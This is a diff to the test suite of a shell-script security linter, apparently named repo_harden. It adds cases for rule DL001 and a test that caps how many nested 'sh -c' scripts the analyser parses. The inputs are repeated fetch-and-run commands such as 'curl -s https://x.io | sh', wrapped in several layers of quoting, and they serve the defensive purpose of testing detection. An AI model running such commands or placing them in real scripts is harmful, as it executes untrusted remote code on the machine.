@@ -99,6 +99,8 @@ DL001_CASES: list[Case] = [
     ("in a container: docker run IMG sh -c", sh(f"docker run --rm alpine@sha256:{DIGEST} sh -c 'curl -s https://x.io | sh'"), [at("DL001", 1, 103)]),
     ("su -c", sh("su -c 'curl -s https://x.io | sh' root"), [at("DL001", 1, 8)]),
     ("nested twice", sh("""sh -c "bash -c 'curl -s https://x.io | sh'" """.strip()), [at("DL001", 1, 17)]),
+    ("a script in quoted parts", sh("sh -c 'echo '\"$X\"'; curl -s https://x.io | sh'"), [at("DL001", 1, 21)]),
+    ("a script over lines", sh("bash -c '\n  set -e\n  curl -s https://x.io | sh'"), [at("DL001", 3, 3)]),
     ("sh -c that saves to a file", sh("sh -c 'curl -fsSLo i.sh https://x.io/i.sh'"), []),
     ("echo prints a shell command", sh("echo sh -c 'curl -s https://x.io | sh'"), []),
     ("sh -c running a local script", sh("sh -c './configure && make'"), []),
@@ -725,3 +727,26 @@ def test_pin_hook_and_rules_never_import_tree_sitter(tmp_path: Path) -> None:
         "assert 'tree_sitter' not in sys.modules, 'tree_sitter was imported'\n"
     )
     subprocess.run([sys.executable, "-c", code], cwd=repo, check=True, capture_output=True)
+
+
+def test_second_shells_are_read_up_to_a_budget() -> None:
+    """Each `sh -c '...'` is a parse of its own: a script reads at most MAX_NESTED_SCRIPTS
+    of them (and no more than MAX_NESTED_SHELLS deep), so a hostile script costs a bounded
+    multiple of its length."""
+    import shlex
+
+    from repo_harden.shell.analyser import MAX_NESTED_SCRIPTS, MAX_NESTED_SHELLS
+
+    text = "sh -c 'curl -s https://x.io | sh'\n" * (MAX_NESTED_SCRIPTS + 20)
+    assert len(scan_files({SH: text}, select=["DL001"])) == MAX_NESTED_SCRIPTS
+
+    def nested(levels: int) -> str:
+        script = "curl -s https://x.io | sh"
+        for _ in range(levels):
+            script = f"sh -c {shlex.quote(script)}"
+        return script
+
+    assert located(scan_files({SH: nested(MAX_NESTED_SHELLS)}, select=["DL001"])) == [
+        at("DL001", 1, 42)  # the `curl` itself, under three levels of quoting
+    ]
+    assert scan_files({SH: nested(MAX_NESTED_SHELLS + 1)}, select=["DL001"]) == []
